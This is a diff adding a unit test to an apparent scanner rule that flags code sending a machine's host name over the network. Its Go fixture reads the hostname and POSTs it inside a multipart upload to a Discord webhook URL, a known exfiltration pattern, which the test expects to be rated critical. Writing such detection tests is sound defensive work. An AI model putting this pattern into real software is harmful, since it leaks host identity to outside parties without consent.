@@ -52,6 +52,22 @@ def test_login_name_in_a_dns_name_is_high_own_address_lookup_is_low():
     assert _by_line("host-identity-sent-over-network", "m.py", text) == {2: "high", 3: "low"}
 
 
+def test_go_host_name_in_a_multipart_body_to_a_webhook_is_critical():
+    # the form writer wraps the body: the field it writes is in the body; NewRequest's URL is its second argument
+    text = ("package p\n"
+            "import (\"bytes\"; \"mime/multipart\"; \"net/http\"; \"os\")\n"
+            "func f() {\n"
+            "    h, _ := os.Hostname()\n"
+            "    var b bytes.Buffer\n"
+            "    w := multipart.NewWriter(&b)\n"
+            "    part, _ := w.CreateFormFile(\"file\", h+\".zip\")\n"
+            "    part.Write([]byte(\"x\"))\n"
+            "    http.NewRequest(\"POST\", \"https://discord.com/api/webhooks/1/x\", &b)\n"
+            "    http.NewRequest(\"POST\", \"https://telemetry.example.com/in\", &b)\n"
+            "}\n")
+    assert _by_line("host-identity-sent-over-network", "p.go", text) == {9: "critical", 10: "medium"}
+
+
 def test_host_name_encoded_into_a_dns_name_is_high_its_own_lookup_is_not():
     py = ("import socket, binascii, base64\n"
           "h = binascii.hexlify(socket.gethostname().encode()).decode()\n"
